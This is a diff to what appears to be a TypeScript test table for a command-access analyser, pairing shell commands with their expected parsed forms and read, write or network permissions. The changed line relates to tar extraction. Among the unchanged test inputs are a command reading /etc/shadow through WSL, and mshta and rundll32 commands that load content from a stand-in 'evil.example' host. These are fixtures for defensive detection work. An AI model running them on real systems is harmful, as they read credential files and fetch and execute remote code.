@@ -120,7 +120,7 @@ const CMD: Row[] = [
   ["wsl -e cat /etc/shadow", ["wsl>cat /etc/shadow"], ["r ?posix_path_on_windows /etc/shadow"]],
   ["ssh git@github.com", ["ssh git@github.com"], ["u ssh://github.com:22/"]],
   ["scp file.txt user@host:/tmp/", ["scp file.txt user@host:/tmp/"], ["r C:\\work\\proj\\file.txt","u ssh://host:22/"]],
-  ["tar -xf archive.tar.gz", ["tar -xf archive.tar.gz"], ["r C:\\work\\proj\\archive.tar.gz","w C:\\work\\proj"]],
+  ["tar -xf archive.tar.gz", ["tar -xf archive.tar.gz"], ["r C:\\work\\proj\\archive.tar.gz","w* C:\\work\\proj"]],
   ["tar -czf out.tgz src", ["tar -czf out.tgz src"], ["w C:\\work\\proj\\out.tgz","r C:\\work\\proj\\src"]],
   ["mshta http://evil.example/x.hta", ["mshta http://evil.example/x.hta #spawns !"], []],
   ["rundll32 url.dll,FileProtocolHandler http://evil.example", ["rundll32 url.dll,FileProtocolHandler http://evil.example #spawns !"], []],
